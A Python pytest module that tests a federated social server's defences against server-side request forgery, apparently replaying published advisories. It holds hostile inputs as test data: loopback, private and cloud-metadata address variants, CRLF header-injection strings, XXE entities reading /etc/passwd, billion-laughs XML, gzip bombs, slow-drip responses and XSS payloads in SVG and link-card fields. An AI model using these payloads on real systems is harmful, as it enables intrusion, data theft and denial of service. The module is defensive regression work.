"""What the server may be made to fetch: from which addresses, how much, how long; and what it does with what comes."""
import collections
import gzip
import http.client
import pathlib
import socket
import threading
import time

import pytest
from howdah import FakeRemote, remote as ways
from howdah.advisory import Scene, replays
from howdah.remote import ACTIVITY, reply
from howdah.wait import stretch, until

HOSTS = """[::127.0.0.1] [::7f00:1] [::] 0.0.0.0 [::1] [::ffff:0.0.0.1] [::ffff:127.0.0.1] [::ffff:7f00:1] [::ffff:a00:1] [::ffff:10.0.0.1] 2130706433
 0177.1 127.1 0x7f000001 127.0.0.1 localhost 127.0.0.1. [64:ff9b:1::7f00:1] [64:ff9b::7f00:1] [2002:7f00:1::] [3fff::1] [2001::1] [100::1] [fec0::1]
 [fe80::1] [fc00::1] [ff02::1] 100.64.0.1 198.18.0.1 192.0.0.1 240.0.0.1 255.255.255.255 10.0.0.1 169.254.169.254 192.168.1.1 172.16.0.1 224.0.0.1
 [::ffff:0:127.0.0.1]""".split()


def restarted(server, later_s):
    """The same server, so much later by its clock."""
    server.stop()
    server.settings["clock_offset_s"] = int(server.settings.get("clock_offset_s") or 0) + later_s
    server.start()


class Trap:
    """Listens on loopback, for both families, and counts who comes."""

    def __init__(self):
        self.came, self.sockets = 0, []
        four = socket.create_server(("127.0.0.1", 0))
        self.port = four.getsockname()[1]
        self.sockets.append(four)
        try:
            self.sockets.append(socket.create_server(("::1", self.port), family=socket.AF_INET6))
        except OSError:
            pass                                    # no IPv6 here: nobody can come that way
        for s in self.sockets:
            threading.Thread(target=self._take, args=(s,), daemon=True).start()

    def _take(self, s):
        while True:
            try:
                connection, _ = s.accept()
            except OSError:
                return
            self.came += 1
            connection.close()

    def close(self):
        for s in self.sockets:
            s.close()


@pytest.fixture(scope="module")
def trap():
    trap = Trap()
    yield trap
    trap.close()


@pytest.fixture(scope="module")
def guarded(tmp_path_factory, trap):
    """A server that may reach two strangers on loopback and nothing else of it; names lead to addresses that are not the internet's."""
    from howdah import Server
    with FakeRemote() as good, FakeRemote(first_key=8) as evil:
        names = {"loop.test": "127.0.0.1", "six.test": "[::1]", "mapped.test": "[::ffff:127.0.0.1]", "compatible.test": "[::7f00:1]", "any.test": "[::]",
                 "nat.test": "[64:ff9b::7f00:1]"}
        with Server(tmp_path_factory.mktemp("guarded"), allow_private_addresses=f"127.0.0.1:{good.port} 127.0.0.1:{evil.port}",
                    static_hosts=" ".join(f"{name}={ip}:{trap.port}" for name, ip in names.items())) as server:
            yield server, good, evil, server.account("alice"), server.account("bob"), list(names)


@pytest.fixture
def inside(guarded):
    return Scene(*guarded[:5]), guarded[5]


ADDRESSES = replays("GHSA-vwhj-3g83-v276", "GHSA-crr4-7rm4-8gpw", "GHSA-xx55-4rrg-8xg6", "GHSA-xfrj-c749-jxxq", "GHSA-5q3h-wpfw-hjjw", "GHSA-mqv7-gxh4-r5vf",
                    "MITRA-5.5.0", "MITRA-5.3.0", "MITRA-3.2.0", "SNAC-ssrf", "PL-1.0.0")


@ADDRESSES
def test_addresses_that_are_nobodys(inside, trap):
    """An address to look up, and a redirect to one."""
    scene, names = inside
    assert scene.account(scene.mallory), "who is allowed is reached"
    for host in HOSTS + names:
        url = f"http://{host}:{trap.port}/users/x"
        assert scene.look(url)["accounts"] == [], host
        scene.evil.behave("/hop", ways.redirect(url))
        assert scene.look(scene.evil.url + "/hop")["accounts"] == [], host
    scene.evil.behave("/hop", None)
    for host in names:
        assert scene.look(f"@x@{host}")["accounts"] == []
    assert trap.came == 0


@replays("GHSA-vwhj-3g83-v276", "GHSA-mqv7-gxh4-r5vf", "MITRA-1.33.0", "AKK-2023.05-proxy", "PL-1.0.0", "GHSA-5q3h-wpfw-hjjw")
def test_pictures_pages_and_inboxes_at_such_addresses(inside, trap):
    scene, names = inside
    m = scene.mallory
    hosts = [h for h in HOSTS if h.startswith(("[::", "127", "0", "2130", "local"))] + names
    for n in range(0, len(hosts), 4):
        pictures = [{"type": "Document", "mediaType": "image/png", "url": f"http://{h}:{trap.port}/x.png"} for h in hosts[n:n + 4]]
        pictures[0]["icon"] = {"type": "Image", "url": f"http://{hosts[n]}:{trap.port}/icon.png"}
        note = scene.mention(m, f'<a href="http://{hosts[n]}:{trap.port}/page">page</a>', attachment=pictures, tag=[
            {"type": "Emoji", "name": ":x:", "icon": {"type": "Image", "url": f"http://{hosts[n]}:{trap.port}/e.png"}}])
        seen = scene.look(note["id"])["statuses"][0]
        for media in seen["media_attachments"]:
            for url in filter(None, (media["url"], media["preview_url"])):
                if "/media_proxy/" in url:
                    assert scene.alice.request("GET", url).status == 404, url
    m.document.update(icon={"type": "Image", "url": f"http://127.0.0.1:{trap.port}/a.png"}, image={"type": "Image", "url": f"http://[::1]:{trap.port}/b.png"})
    m.publish()
    them = scene.account(m)
    for url in (them["avatar"], them["header"]):
        assert scene.alice.request("GET", url).status in (200, 404)
    for url in ("file:///etc/passwd", "//x", "gopher://127.0.0.1/"):
        seen = scene.look(m.note("x", attachment=[{"type": "Document", "mediaType": "image/png", "url": url}])["id"])["statuses"][0]
        assert seen["media_attachments"] == [], url
    scene.alice.status(f"look at http://127.0.0.1:{trap.port}/page and http://loop.test/page http://10.0.0.1/")
    scene.settle()
    assert trap.came == 0


@replays("AKK-3.20-search")
def test_nobody_looks_up_without_an_account(scene):
    note = scene.mallory.note("x")
    anonymous = scene.server.anonymous()
    for params in ({"q": note["id"], "resolve": "true"}, {"q": "@" + scene.mallory.handle, "resolve": "true"}, {"q": "x", "resolve": "true", "offset": 20}):
        assert anonymous.request("GET", "/api/v2/search", params=params).status in (401, 422)
        anonymous.request("GET", "/api/v2/search", params={**params, "resolve": "false"})
    path = note["id"].removeprefix(scene.evil.url)
    assert [r for r in scene.evil.received if r.path == path or scene.mallory.name in r.target] == []


@replays("GHSA-hcqf-fw2r-52g4")
def test_an_address_is_no_second_request(scene):
    m = scene.mallory
    for tail in ("/x\r\nHost: internal\r\nX: y", "/a b HTTP/1.1", "/x%0d%0aX: y", "/\t/x"):
        found = scene.look(scene.evil.url + tail)
        assert found["statuses"] == [] and found["accounts"] == []
        m.document["inbox"] = m.inbox + tail
        m.publish()
        note = m.note("x", attachment=[{"type": "Document", "mediaType": "image/png", "url": scene.evil.url + tail}], inReplyTo=scene.evil.url + tail)
        for media in (scene.look(note["id"])["statuses"] or [{"media_attachments": []}])[0]["media_attachments"]:
            scene.alice.request("GET", media["url"])
    assert [r for r in scene.evil.received if "x" in r.headers and r.headers.get("x") == "y" or r.headers.get("host") == "internal" or " " in r.target] == []


@replays("GHSA-9pxv-6qvf-pjwc", "CVE-2018-21018", "GTS-#564")
def test_whoever_answers_slowly_is_not_waited_for(new_server, tmp_path):
    """A document, a picture, a page and WebFinger a byte at a time; a TLS handshake that nobody answers; and meanwhile others are served."""
    server = new_server()
    silent = socket.create_server(("127.0.0.1", 0), backlog=16)
    with FakeRemote() as good, FakeRemote(first_key=8) as evil:
        scene = Scene(server, good, evil, server.account("alice"), server.account("bob"))
        note = scene.mallory.note("x", attachment=[{"type": "Document", "mediaType": "image/png", "url": evil.url + "/slow/x.png"}])
        media = scene.look(note["id"])["statuses"][0]["media_attachments"][0]["url"]
        evil.behave("/slow", ways.trickle())
        evil.behave("/.well-known/webfinger", ways.trickle())
        evil.behave("/headers", lambda h, go_on: (h.wfile.write(b"HTTP/1.1 200 OK\r\nX: "), ways.trickle()(h, go_on)))
        took, threads = {}, []

        def ask(name, what):
            began = time.monotonic()
            what()
            took[name] = time.monotonic() - began

        def begin(name, what):
            threads.append(threading.Thread(target=ask, args=(name, what)))
            threads[-1].start()
        begin("document", lambda: scene.look(evil.url + "/slow/doc"))
        begin("headers", lambda: scene.look(evil.url + "/headers/doc", scene.bob))
        begin("webfinger", lambda: server.account().get("/api/v2/search", {"q": f"@new@{evil.domain}", "resolve": "true"}, timeout=90))
        begin("picture", lambda: server.anonymous().request("GET", media, timeout=90))
        begin("tls", lambda: server.account().get("/api/v2/search", {"q": f"https://127.0.0.1:{silent.getsockname()[1]}/x", "resolve": "true"}, timeout=90))
        assert scene.account(scene.victim), "others are looked up meanwhile"
        for t in threads:
            t.join(stretch(90))
        assert len(took) == 5 and max(took.values()) < stretch(45), took
        silent.close()


@replays("GHSA-9pxv-6qvf-pjwc")
def test_redirects_end(scene):
    scene.evil.behave("/round", lambda h, go_on: reply(h, 302, headers={"Location": h.path + "x"}))
    began = len(scene.evil.received)
    assert scene.look(scene.evil.url + "/round/")["accounts"] == []
    assert len([r for r in scene.evil.received[began:] if r.path.startswith("/round")]) <= 5


def bomb(size=200 << 20):
    """gzip of that many spaces."""
    return gzip.compress(b'{"a":"' + b" " * size + b'"}', 9)


@replays("MITRA-2.3.0", "SNAC-ea9c030", "GTS-#564", "SNAC-ssrf")
def test_an_answer_has_an_end(scene):
    packed = bomb()

    def squeezed(h, go_on):
        reply(h, 200, packed, ACTIVITY, {"Content-Encoding": "gzip"})

    def endless(h, go_on):
        h.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/activity+json\r\nTransfer-Encoding: chunked\r\n\r\n")
        sent = 0
        while sent < 64 << 20:
            h.wfile.write(b"10000\r\n" + b" " * 65536 + b"\r\n")
            sent += 65536

    def odd(h, go_on):
        h.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/activity+json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n3\r\n\"a\"\r\nffffffffffffffff\r\n:1}")
        h.close_connection = True

    def lie(h, go_on):
        h.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/activity+json\r\nContent-Length: 18446744073709551617\r\n\r\n{}")
        h.close_connection = True
    before = rss(scene.server)
    for how in (squeezed, endless, odd, lie, ways.big(), ways.big(told=False)):
        scene.evil.behave("/large", how)
        found = scene.look(scene.evil.url + "/large")
        assert found["accounts"] == [] and found["statuses"] == []
    scene.evil.behave("/large", None)
    assert rss(scene.server) - before < 64 << 20


def rss(server):
    with open(f"/proc/{server.process.pid}/statm") as f:
        return int(f.read().split()[1]) * 4096


@replays("AKK-2023.08-xml", "PL-2.4.3-dtd")
def test_host_meta_is_no_program(scene):
    """Entities of a host-meta are not looked up, and not multiplied."""
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for entities in (f'<!ENTITY l0 "lol">{lol}', '<!ENTITY l9 SYSTEM "file:///etc/passwd">', f'<!ENTITY l9 SYSTEM "{scene.evil.url}/entity">'):
        xrd = (f'<?xml version="1.0"?><!DOCTYPE XRD [{entities}]><XRD xmlns="http://docs.oasis-open.org/ns/xri/xrd-1.0"><Title>&l9;</Title>'
               f'<Link rel="lrdd" template="{scene.evil.url}/wf?&l9;{{uri}}"/></XRD>')
        scene.evil.put("/.well-known/host-meta", xrd, "application/xrd+xml")
        assert scene.look(f"@{scene.server.new_name('nobody')}@{scene.evil.domain}")["accounts"] == []
    scene.evil.documents.pop("/.well-known/host-meta")
    asked = [r.target for r in scene.evil.received]
    assert "/entity" not in asked and not any("root:" in t or "lollol" in t for t in asked)


# ---- pictures through our proxy ----

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


@replays("PL-2.5.2-proxy", "AKK-2023.05-proxy", "SNAC-proxytoken")
def test_the_proxy_passes_on_pictures_alone(scene):
    m = scene.mallory
    for n, (type, body) in enumerate((("image/svg+xml", SVG), ("text/html", b"<script>alert(1)</script>"), ("image/png", SVG), ("application/xml", SVG),
                                      ("image/png", b"<!doctype html><script>alert(1)</script>"))):
        at = f"/evil/{m.name}-{n}.png"
        scene.evil.put(at, body, type)
        note = m.note("x", attachment=[{"type": "Document", "mediaType": "image/png", "url": scene.evil.url + at}])
        url = scene.look(note["id"])["statuses"][0]["media_attachments"][0]["url"]
        got = scene.alice.request("GET", url, headers={"Accept": "text/html"})
        assert got.status == 404 and b"<script" not in got.content and b"<svg" not in got.content
    anonymous = scene.server.anonymous()
    for path in ("/media_proxy/?url=" + scene.evil.url + "/any", "/proxy?url=" + scene.evil.url + "/any", f"/media_proxy/media/1/{scene.evil.url}/any",
                 "/media_proxy/media/1/00000000?url=" + scene.evil.url + "/any"):
        assert anonymous.request("GET", path).status in (400, 403, 404)
    assert [r for r in scene.evil.received if r.path == "/any"] == []


@replays("PL-2.3.0", "GHSA-gq5q-c77c-v236")
def test_the_proxy_asks_in_its_own_name(scene):
    m = scene.mallory
    at = f"/look/{m.name}.png"
    ours = f"http://{scene.server.domain}/media_proxy/media/1/00000000"
    note = m.note("x", attachment=[{"type": "Document", "mediaType": "image/png", "url": url} for url in (scene.evil.url + at, ours)])
    media = scene.look(note["id"])["statuses"][0]["media_attachments"]
    scene.server.anonymous().request("GET", media[0]["url"], headers={"User-Agent": "Somebody/1.0", "Cookie": "a=b", "Referer": "https://x.example/",
                                                                      "X-Forwarded-For": "192.0.2.7"})
    got = [r for r in scene.evil.received if r.path == at]
    assert len(got) == 1 and got[0].headers["user-agent"].startswith("Howdah/")
    assert not {"cookie", "referer", "x-forwarded-for", "forwarded", "via"} & set(got[0].headers)
    if len(media) > 1:
        assert scene.server.anonymous().request("GET", media[1]["url"]).status == 404, "what is ours is not fetched through ourselves"


@replays("MASTO-#37359")
def test_a_picture_that_is_not_there_is_asked_for_once(scene):
    m = scene.mallory
    at = f"/gone/{m.name}.png"
    url = scene.look(m.note("x", attachment=[{"type": "Document", "mediaType": "image/png", "url": scene.evil.url + at}])["id"])["statuses"][0][
        "media_attachments"][0]["url"]
    anonymous = scene.server.anonymous()
    for _ in range(20):
        assert anonymous.request("GET", url).status == 404
    assert len([r for r in scene.evil.received if r.path == at]) == 1


def crawl(server, paths, times):
    """Anonymous requests for these, so many in all; how many were answered how."""
    said = collections.Counter()
    connection = http.client.HTTPConnection(server.url.removeprefix("http://"), timeout=stretch(60))
    for n in range(times):
        connection.request("GET", paths[n % len(paths)])
        answer = connection.getresponse()
        answer.read()
        said[answer.status] += 1
    connection.close()
    return said


@replays("MASTO-#37359")
def test_who_crawls_does_not_have_pictures_fetched_without_end(new_server, remote):
    """Posts that trend, page after page, and each picture of them, two thousand times in all, before and after our copies went."""
    size, budget, posts = 20480, 65536, 12
    picture = (pathlib.Path(__file__).parent.parent / "fixtures/media/photo.jpg").read_bytes()
    server = new_server(clock_offset_s=int(43200 - time.time() % 86400))
    server.cli("config", "set", "proxy_hour_max", str(budget))
    bob, fans = remote.actor("bob", discoverable=True), [server.account(f"fan{n}") for n in range(6)]
    for n in range(posts):
        url = remote.put(f"/p/{n}.jpg", picture.ljust(size, b"x"), "image/jpeg")
        now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + int(server.settings["clock_offset_s"]) - 600 + n))
        note = bob.note(f"{n}", published=now, attachment=[{"type": "Document", "mediaType": "image/jpeg", "url": url}])
        for fan in fans:
            found = fan.get("/api/v2/search", {"q": note["id"], "resolve": "true"})["statuses"][0]
            fan.post(f"/api/v1/statuses/{found['id']}/favourite")
    restarted(server, 360)
    anonymous = server.anonymous()
    until(lambda: len(anonymous.get("/api/v1/trends/statuses", {"limit": 40})) == posts, "all of them trend")
    pages = [anonymous.get("/api/v1/trends/statuses", {"limit": 5, "offset": offset}) for offset in range(0, posts, 5)]
    paths = [m["url"].removeprefix(f"http://{server.domain}") for page in pages for s in page for m in s["media_attachments"]]
    assert len(set(paths)) == posts and all(path.startswith("/media_proxy/") for path in paths)

    def fetched():
        return len([r for r in remote.received if r.path.startswith("/p/")])
    most = budget // size + 1
    said = crawl(server, paths, 1000)
    assert fetched() == most and set(said) == {200, 503} and said[200] >= 1000 // posts * most, (said, fetched())
    restarted(server, 60 * 86400)
    until(lambda: server.sql("SELECT count(*) FROM proxy_files") == "0", "our copies are old, and gone", 60)
    said = crawl(server, paths, 1000)
    assert fetched() == 2 * most and set(said) == {200, 503}, (said, fetched())


# ---- pages that are linked to ----

def card(scene, head, path=None, type="text/html; charset=utf-8"):
    path = path or f"/page/{scene.server.new_name('p')}"
    scene.evil.put(path, f"<!doctype html><html><head>{head}</head><body>x</body></html>", type)
    post = scene.alice.status("see " + scene.evil.url + path)
    until(lambda: [r for r in scene.evil.received if r.path == path], "the page is asked for", 30)
    scene.settle()
    return scene.alice.get(f"/api/v1/statuses/{post['id']}")["card"]


@replays("GHSA-3p2w-xmv5-jm95", "GHSA-ccm4-vgcc-73hp", "GHSA-mq2m-hr29-8gqf")
@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/css,x", "data:text/html,<script>alert(1)</script>", "x);background:url(https://evil",
                                 "&quot;><script>alert(1)</script>", "vbscript:x", " java&#9;script:alert(1)"])
def test_a_card_calls_nothing(scene, url):
    """A page's picture and player; and what its oEmbed would say is not taken at all."""
    oembed = {"type": "video", "html": f"<iframe src='{url}' srcdoc='<script>x</script>'></iframe><embed src=https://evil.example/x.swf><object data=x>"}
    scene.evil.put("/oembed", oembed, "application/json")
    got = card(scene, f'<title>T</title><meta property="og:title" content="T"><meta property="og:image" content="{url}"><meta property="og:video:url" content="{url}">'
                      f'<meta name="twitter:card" content="player"><meta name="twitter:player" content="{url}"><meta name="twitter:player:width" content="100">'
                      f'<meta name="twitter:player:height" content="100"><link rel="alternate" type="application/json+oembed" href="{scene.evil.url}/oembed">')
    for field in ("url", "image", "embed_url", "author_url", "provider_url"):
        assert not got[field] or got[field].startswith(("http://", "https://")), (field, got)
    html = got["html"].lower()
    assert html == "" or (html.startswith("<iframe") and 'src="http' in html and "sandbox" in html and "srcdoc" not in html and html.count("<") == 2), html
    assert "<embed" not in html and "<object" not in html and "script" not in html


@replays("PL-2.0.7")
def test_a_page_of_many_words(scene):
    head = "<title>T</title>" + "".join(f'<meta property="og:k{n}" content="{n}">' for n in range(30000))
    got = card(scene, head)
    assert got is None or got["title"] == "T"
    body = b'{"type":"Follow","id":"%s/1","actor":"%s","object":"%s",%s}' % (
        scene.mallory.id.encode(), scene.mallory.id.encode(), scene.actor.encode(), b",".join(b'"k%d":1' % n for n in range(60000)))
    assert scene.mallory.deliver(scene.inbox, None, body=body).status_code in (202, 400, 413)


@replays("MASTO-4.0.0#20217")
def test_a_profile_is_proved_by_the_page_itself(scene):
    """A page that leads to another which links to somebody else's profile here, or to one whose address only begins as hers."""
    me = scene.alice.me()
    scene.evil.put("/other", f'<a rel="me" href="{me["url"]}_evil">x</a><a rel="me" href="http://{scene.server.domain}/@{scene.bob.name}">y</a>', "text/html")
    scene.evil.behave("/r", ways.redirect(scene.evil.url + "/other"))
    scene.alice.patch("/api/v1/accounts/update_credentials", {"fields_attributes": [{"name": "a", "value": scene.evil.url + "/r"},
                                                                                    {"name": "b", "value": scene.evil.url + "/other"}]})
    until(lambda: len([r for r in scene.evil.received if r.path == "/other"]) >= 1, "the page is looked at", 30)
    scene.settle()
    assert [f["verified_at"] for f in scene.alice.me()["fields"]] == [None, None]
    scene.evil.behave("/r", None)
